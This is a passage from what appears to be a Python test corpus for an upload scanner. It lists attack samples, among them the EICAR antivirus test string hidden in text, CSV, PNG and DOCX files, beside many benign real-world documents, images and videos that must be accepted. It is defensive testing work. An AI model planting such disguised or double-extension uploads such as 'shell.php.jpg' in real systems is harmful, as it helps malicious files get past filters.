                                       + bytes(20)), box(b"mdat", bytes(100))]), "malformed"),
    # Known malware inside allowed types (needs clamd).
    Sample("EICAR as a text file", D, "eicar.txt", "text/plain", lambda: EICAR, "malware",
           scanner=True),
    Sample("EICAR inside a CSV", D, "a.csv", "text/csv",
           lambda: csv_rows("note", EICAR.decode()), "malware", scanner=True),
    Sample("EICAR in a PNG text chunk", A, "a.png", "image/png",
           lambda: png_with_text(EICAR), "malware", scanner=True),
    Sample("EICAR inside a DOCX", D, "a.docx", DOCX,
           lambda: rezipped(docx(), add={"word/media/eicar.com": EICAR}), "malware",
           scanner=True),
]

BENIGN: list[Sample] = [
    Sample("PNG", A, "me.png", "image/png", lambda: image("PNG"), None),
    Sample("PNG with an ordinary text chunk", A, "me.png", "image/png",
           lambda: png_with_text(b"Made with Pillow"), None),
    Sample("JPEG", A, "me.jpg", "image/jpeg", lambda: image("JPEG"), None),
    Sample("progressive JPEG named .jpeg", A, "me.jpeg", "image/jpeg",
           lambda: image("JPEG", progressive=True, quality=80), None),
    Sample("animated GIF", A, "wave.gif", "image/gif", lambda: animated_gif(12), None),
    Sample("WebP", A, "me.webp", "image/webp", lambda: image("WEBP"), None),
    Sample("lossless WebP", A, "me.webp", "image/webp",
           lambda: image("WEBP", lossless=True), None),
    Sample("shell.php.jpg that is a JPEG", A, "shell.php.jpg", "image/jpeg",
           lambda: image("JPEG"), None),
    Sample("PDF from reportlab with a link", D, "invoice.pdf", "application/pdf",
           reportlab_pdf, None),
    Sample("PDF from Pillow", D, "scan.pdf", "application/pdf", lambda: image("PDF"), None),
    Sample("PDF that opens at page 1", D, "a.pdf", "application/pdf",
           lambda: pdf_changed(lambda w: setattr(w, "open_destination", w.pages[0])), None),
    Sample("DOCX from python-docx", D, "report.docx", DOCX, docx, None),
    Sample("XLSX from openpyxl", D, "budget.xlsx", XLSX, xlsx, None),
    Sample("UTF-8 text with a BOM", D, "notes.txt", "text/plain",
           lambda: "\ufeffNotes: naïve café, 10 €\n".encode(), None),
    Sample("long UTF-8 text", D, "log.txt", "text/plain", lambda: TEXT_70K * 3, None),
    Sample("prose with many commas as text", D, "letter.txt", "text/plain",
           lambda: b"Dear Ann, Bob, Carl, Dana, and Eve, thanks, truly, again.\n" * 40, None),
    Sample("CSV with negative numbers and quotes", D, "ledger.csv", "text/csv",
           lambda: csv_rows("item,amount,note", 'refund,-12.50,"said ""thanks"""',
                            "fee,+3,", "rate,-1.5e3,Zürich"), None),
    Sample("inert SVG in a private profile", "drawing", "logo.svg", SVG,
           lambda: svg('<circle cx="5" cy="5" r="4" fill="#c00"/><use href="#c"/>'), None),
    Sample("inert SVG in a sanitizing public profile", "sanitized_drawing", "logo.svg", SVG,
           lambda: svg('<!-- made by hand --><rect width="4" height="4"/>'), None),
    Sample("plain XML data", "data", "orders.xml", "text/xml",
           lambda: b'<?xml version="1.0"?><orders><order id="1" total="-3.5"/></orders>',
           None),
    Sample("CSV with formulas in a neutralizing profile", "sheet", "a.csv", "text/csv",
           lambda: csv_rows("a,b", "=1+1,2"), None),
    Sample("PNG with XMP metadata", A, "photo.png", "image/png", png_with_xmp, None),
    Sample("PNG with an ICC profile", A, "photo.png", "image/png",
           lambda: image("PNG", icc_profile=_srgb_profile()), None),
    Sample("JPEG with EXIF", A, "photo.jpg", "image/jpeg",
           lambda: image("JPEG", exif=_exif(orientation=6)), None),
    Sample("semicolon CSV with decimal commas", D, "ledger.csv", "text/csv",
           lambda: csv_rows("item;amount", "refund;-12,50", "fee;+3", '"rate";"-1,5"'), None),
    Sample("CSV with a 300 KiB field", D, "notes.csv", "text/csv",
           lambda: csv_rows("id,note", "1," + "long note " * 30_000), None),
    Sample("MP4 (H.264, AAC) from ffmpeg", V, "clip.mp4", "video/mp4",
           lambda: encoded("mp4"), None, encoder=True),
    Sample("MP4 with its index first (faststart)", V, "clip.mp4", "video/mp4",
           lambda: encoded("mp4-faststart"), None, encoder=True),
    Sample("fragmented MP4", V, "clip.mp4", "video/mp4",
           lambda: encoded("mp4-fragmented"), None, encoder=True),
    Sample("QuickTime movie", V, "clip.mov", "video/quicktime", lambda: encoded("mov"),
           None, encoder=True),
    Sample("WebM (VP9, Opus)", V, "clip.webm", "video/webm", lambda: encoded("webm"), None,
           encoder=True),
    Sample("WebM streamed, sizes unknown (as MediaRecorder writes)", V, "rec.webm",
           "video/webm", streamed_webm, None, encoder=True),
    Sample("Matroska (H.264, FLAC)", V, "clip.mkv", "video/x-matroska",
           lambda: encoded("mkv"), None, encoder=True),
    Sample("hand-built MP4 of three boxes", V, "tiny.mp4", "video/mp4", tiny_mp4, None),
    # What real files showed: traits of the programs people use.
    Sample("DOCX from Word for Mac (docProps first)", D, "minutes.docx", DOCX,
           writers.mac_word_docx, None),
    Sample("XLSX with folder entries first", D, "budget.xlsx", XLSX,
           writers.folders_first_xlsx, None),
    Sample("DOCX with page-number fields and a hyperlink", D, "report.docx", DOCX,
           lambda: writers.docx_with_field([" PAGE ", r"\* MERGEFORMAT "]), None),
    Sample("DOCX with an external hyperlink relationship", D, "links.docx", DOCX,
           lambda: writers.docx_with_relationship("hyperlink", "https://example.com/"), None),
    Sample("XLSX with an ordinary formula and a pipe in a string", D, "sums.xlsx", XLSX,
           lambda: writers.xlsx_workbook('=SUM(B2:B3)&" | total"'), None),
    Sample("JPEG with Photoshop's print settings (a property list)", A, "print.jpg",
           "image/jpeg", writers.photoshop_jpeg, None),
    Sample("JPEG with Photoshop's XMP packet", A, "photo.jpg", "image/jpeg", writers.xmp_jpeg,
           None),
    Sample("PDF report of 137 pages and about 12,500 objects", D, "report.pdf",
           "application/pdf", writers.long_report, None),
    Sample("PDF protected by an owner password only", D, "signed.pdf", "application/pdf",
           writers.pdf_owner_password_only, None),
    Sample("PDF with a harmless compressed object stream", D, "packed.pdf", "application/pdf",
           lambda: writers.pdf_object_stream(b"<< /Producer (LibreOffice) >>"), None),
    Sample("SVG from Illustrator (SVG 1.1 DOCTYPE)", "drawing", "logo.svg", SVG,
           writers.illustrator_svg, None),
    Sample("SVG from Illustrator (SVG 1.0 DOCTYPE), sanitized", "sanitized_drawing",
           "logo.svg", SVG, lambda: writers.illustrator_svg(writers.SVG10_DOCTYPE), None),
    Sample("SVG from Inkscape", "drawing", "drawing.svg", SVG, writers.inkscape_svg, None),
    Sample("UTF-16 CSV from a spreadsheet", D, "people.csv", "text/csv",
           lambda: writers.csv_as("utf-16"), None),
    Sample("UTF-16 text with a byte order mark", D, "notes.txt", "text/plain",
           lambda: "hello wörld\n".encode("utf-16") * 4, None),
    Sample("Windows-1252 CSV where the profile takes it", "legacy_sheet", "people.csv",
           "text/csv", lambda: writers.csv_as("cp1252"), None),
    Sample("JPEG thumbnail with a NUL byte after its end (as Word writes it)", A, "thumb.jpg",
           "image/jpeg", lambda: image("JPEG") + b"\0", None),
    Sample("PNG padded with blank bytes after IEND", A, "scan.png", "image/png",
           lambda: image("PNG") + b"\0" * 512 + b"\n", None),
    Sample("PDF padded with NUL bytes after %%EOF", D, "padded.pdf", "application/pdf",
           lambda: reportlab_pdf() + b"\0" * 3000, None),
    Sample("XML saved as a .txt", D, "chart.txt", "text/plain",
           lambda: b'<?xml version="1.0"?>\n<c:chart xmlns:c="urn:x"><c:v>1</c:v></c:chart>\n',
           None),
    Sample("C source saved as a .txt", D, "snippet.txt", "text/plain",
           lambda: b"#include <stdio.h>\nint main(void) { return 0; }\n", None),
    Sample("a text file of one blank line", D, "empty-line.txt", "text/plain", lambda: b"\n",
           None),
    Sample("MP4 with a 3GPP brand, as phones write it", V, "call.mp4", "video/mp4",
           lambda: tiny_mp4(brand=b"3gp5"), None),
    Sample("Matroska with nested tags that fit", V, "tagged.mkv", "video/x-matroska",
           lambda: writers.matroska_with_child(0x4D80, b"writer"), None),
]


def markdown_table() -> str:
    short = {DOCX: "DOCX type", XLSX: "XLSX type"}
    rows = ["| sample | profile | declared as | verdict |", "|---|---|---|---|"]
    for sample in ATTACKS + BENIGN:
        verdict = f"`{sample.expect}`" if sample.expect else "accepted"
        declared = short.get(sample.content_type, f"`{sample.content_type}`")
        rows.append(f"| {sample.name} | {sample.profile} | `{sample.filename}`, {declared} "
                    f"| {verdict} |")
    return "\n".join(rows)


if __name__ == "__main__":
    print(markdown_table())
